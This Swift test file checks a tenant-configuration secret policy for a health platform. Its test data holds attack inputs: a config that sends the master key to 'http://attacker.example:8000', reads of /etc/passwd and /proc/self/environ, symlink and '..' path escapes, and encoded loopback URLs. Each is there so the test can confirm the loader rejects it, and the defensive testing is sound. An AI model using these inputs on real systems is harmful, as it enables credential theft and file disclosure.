import Foundation
import Testing
@testable import CareFlowCore

/// Issue 10, finding 7: a tenant file must not be able to read platform secrets nor send its
/// secrets anywhere but an https provider.
@Suite("Tenant secret policy")
struct TenantSecretPolicyTests {
    /// A data folder with the demo master key, a secrets folder with one legitimate secret and
    /// a symlink out of it to the master key.
    struct Layout {
        let root: URL
        var data: String { root.appendingPathComponent("data").path }
        var secrets: String { root.appendingPathComponent("secrets").path }
        var masterKey: String { data + "/keys/master.key" }

        init() throws {
            root = FileManager.default.temporaryDirectory.appendingPathComponent("careflow-secrets-\(UUID().uuidString)")
            let fm = FileManager.default
            try fm.createDirectory(atPath: root.path + "/data/keys", withIntermediateDirectories: true)
            try fm.createDirectory(atPath: root.path + "/secrets", withIntermediateDirectories: true)
            try "master-key-material".write(toFile: root.path + "/data/keys/master.key", atomically: true, encoding: .utf8)
            try "sk_live_tenant".write(toFile: root.path + "/secrets/stripe_key", atomically: true, encoding: .utf8)
            try fm.createSymbolicLink(atPath: root.path + "/secrets/innocent", withDestinationPath: root.path + "/data/keys/master.key")
            try fm.createSymbolicLink(atPath: root.path + "/secrets/keys", withDestinationPath: root.path + "/data/keys")
        }

        func policy(secretsDirectory: String? = nil, loopback: Bool = false, prefixes: [String] = []) -> TenantSecretPolicy {
            TenantSecretPolicy(secretsDirectory: secretsDirectory ?? secrets, forbiddenDirectories: [data],
                               allowedEnvironmentPrefixes: prefixes, allowLoopbackAdapters: loopback)
        }

        func remove() { try? FileManager.default.removeItem(at: root) }
    }

    static func tenant(_ payments: String) -> String {
        """
        slug: kigali-health
        name: Kigali Health Group
        timezone: Africa/Kigali
        integrations:
          payments: \(payments)
        """
    }

    /// The problems the loader reports for one file, as `field: reason`.
    static func problems(_ yaml: String, _ policy: TenantSecretPolicy) -> [String] {
        switch TenantConfigurationLoader.parseCollectingErrors(yaml: yaml, fileName: "tenants/kigali-health.yaml", policy: policy) {
        case .success: []
        case .failure(let errors): errors.errors.map { "\($0.field): \($0.reason)" }
        }
    }

    @Test("the reported attack is refused: the data folder's master key sent to an http listener")
    func reportedAttack() throws {
        let layout = try Layout()
        defer { layout.remove() }
        let yaml = Self.tenant("{adapter: stripe, secret_key: file:\(layout.masterKey), webhook_secret: file:\(layout.secrets)/stripe_key, base_url: \"http://attacker.example:8000\"}")
        // Even with the whole file system as the secrets directory, or the data folder itself.
        for directory in [layout.secrets, "/", layout.data, layout.root.path] {
            let found = Self.problems(yaml, layout.policy(secretsDirectory: directory))
            #expect(found.contains { $0.hasPrefix("integrations.payments.secret_key: ") }, "\(directory): \(found)")
            #expect(found.contains { $0.hasPrefix("integrations.payments.base_url: ") && $0.contains("https") }, "\(found)")
        }
        // The message names file, field and reason.
        #expect(throws: TenantConfigurationErrors.self) {
            try TenantConfigurationLoader.parse(yaml: yaml, fileName: "tenants/kigali-health.yaml", policy: layout.policy())
        }
        do {
            _ = try TenantConfigurationLoader.parse(yaml: yaml, fileName: "tenants/kigali-health.yaml", policy: layout.policy())
        } catch {
            #expect("\(error)".contains("tenants/kigali-health.yaml"))
            #expect("\(error)".contains("integrations.payments.secret_key"))
        }
    }

    @Test("file: secrets: outside the secrets directory, `..` and symlink escapes, the data folder are refused")
    func fileEscapes() throws {
        let layout = try Layout()
        defer { layout.remove() }
        let policy = layout.policy()
        for (reference, why) in [
            ("file:/etc/passwd", "outside"),
            ("file:\(layout.secrets)/innocent", "outside"),        // symlink to the master key
            ("file:\(layout.secrets)/keys/master.key", "outside"), // symlinked directory
            ("file:\(layout.secrets)-evil/x", "outside"),          // a sibling sharing the prefix
        ] {
            let found = Self.problems(Self.tenant("{adapter: stripe, secret_key: \(reference), webhook_secret: file:\(layout.secrets)/stripe_key}"), policy)
            #expect(found.count == 1 && found[0].contains(why), "\(reference): \(found)")
        }
        // `..` never even parses as a reference.
        let dotted = Self.problems(Self.tenant("{adapter: stripe, secret_key: file:\(layout.secrets)/../data/keys/master.key, webhook_secret: file:\(layout.secrets)/stripe_key}"), policy)
        #expect(dotted.count == 1 && dotted[0].hasPrefix("integrations.payments.secret_key: invalid secret reference"))
        // The resolver refuses the same at read time, and reads what the policy allows.
        let resolver = SecretResolver(environment: [:], policy: policy)
        for path in [layout.masterKey, layout.secrets + "/innocent", layout.secrets + "/keys/master.key", layout.secrets + "/../data/keys/master.key"] {
            #expect(throws: SecretResolver.Failure.self, "\(path)") { try resolver.resolve(.file(path)) }
        }
        #expect(try resolver.resolve(.file(layout.secrets + "/stripe_key")) == "sk_live_tenant")
        // Nor the process's environment through /proc, whatever the secrets directory.
        let everything = SecretResolver(environment: [:], policy: layout.policy(secretsDirectory: "/"))
        #expect(throws: SecretResolver.Failure.self) { try everything.resolve(.file("/proc/self/environ")) }
        #expect(layout.policy(secretsDirectory: "/").problem(with: .file("/proc/self/environ")) != nil)
        // A secrets directory configured inside (or as) the data folder reads nothing from it.
        let misconfigured = SecretResolver(environment: [:], policy: layout.policy(secretsDirectory: layout.data))
        #expect(throws: SecretResolver.Failure.self) { try misconfigured.resolve(.file(layout.masterKey)) }
    }

    @Test("env: secrets: CareFlow's own variables are refused; an allow-list of prefixes narrows the rest")
    func environmentNames() throws {
        let open = TenantSecretPolicy()
        for name in ["CAREFLOW_MASTER_KEYS", "CAREFLOW_JWT_SIGNING_KEY", "CAREFLOW_METRICS_TOKEN", "DATABASE_URL", "DATABASE_MIGRATION_URL",
                     "POSTGRES_PASSWORD", "PGPASSWORD"] {
            #expect(open.problem(with: .env(name)) != nil, "\(name)")
        }
        #expect(open.problem(with: .env("KH_STRIPE_KEY")) == nil)
        let found = Self.problems(Self.tenant("{adapter: stripe, secret_key: env:CAREFLOW_MASTER_KEYS, webhook_secret: env:KH_WHSEC}"), open)
        #expect(found == ["integrations.payments.secret_key: env:CAREFLOW_MASTER_KEYS is CareFlow's own configuration, not a tenant secret"])
        let listed = TenantSecretPolicy(allowedEnvironmentPrefixes: ["KH_", "CAREFLOW_"])
        #expect(listed.problem(with: .env("KH_STRIPE_KEY")) == nil)
        #expect(listed.problem(with: .env("LC_STRIPE_KEY")) != nil)
        #expect(listed.problem(with: .env("CAREFLOW_MASTER_KEYS")) != nil)  // reserved whatever the list says
        let resolver = SecretResolver(environment: ["CAREFLOW_MASTER_KEYS": "k", "DATABASE_URL": "postgres://x", "KH_KEY": "v"])
        #expect(throws: SecretResolver.Failure.self) { try resolver.resolve(.env("CAREFLOW_MASTER_KEYS")) }
        #expect(throws: SecretResolver.Failure.self) { try resolver.resolve(.env("DATABASE_URL")) }
        #expect(try resolver.resolve(.env("KH_KEY")) == "v")
    }

    @Test("base_url: https only; loopback only with the operator setting")
    func adapterURLs() {
        let strict = TenantSecretPolicy(), local = TenantSecretPolicy(allowLoopbackAdapters: true)
        #expect(strict.adapterURLProblem("https://api.stripe.com") == nil)
        #expect(strict.adapterURLProblem("https://eu.api.openai.example/v1") == nil)
        for url in ["http://attacker.example", "http://203.0.113.5:8080", "ftp://x.example", "HTTP://attacker.example"] {
            #expect(strict.adapterURLProblem(url) != nil, "\(url)")
            #expect(local.adapterURLProblem(url) != nil, "\(url)")
        }
        for url in ["http://127.0.0.1:9", "https://127.0.0.1", "http://127.8.9.10", "http://localhost:8089", "https://LOCALHOST.",
                    "http://api.localhost", "http://[::1]:80", "http://[0:0:0:0:0:0:0:1]", "http://[::ffff:127.0.0.1]", "http://2130706433",
                    "http://0x7f000001"] {
            #expect(strict.adapterURLProblem(url)?.contains("CAREFLOW_ALLOW_LOOPBACK_ADAPTERS") == true, "\(url)")
            #expect(local.adapterURLProblem(url) == nil, "\(url)")
        }
        #expect(strict.adapterURLProblem("https://127.example.org") == nil)  // a name, not an address
        // Through the loader: a legitimate file loads.
        let yaml = Self.tenant("{adapter: stripe, secret_key: env:KH_STRIPE_KEY, webhook_secret: file:/run/secrets/kh-whsec, base_url: \"https://api.stripe.com\"}")
        #expect(Self.problems(yaml, strict).isEmpty)
        let loopback = Self.tenant("{adapter: stripe, secret_key: env:KH_STRIPE_KEY, webhook_secret: env:KH_WHSEC, base_url: \"http://127.0.0.1:12111\"}")
        #expect(Self.problems(loopback, strict).count == 1)
        #expect(Self.problems(loopback, local).isEmpty)
    }
}
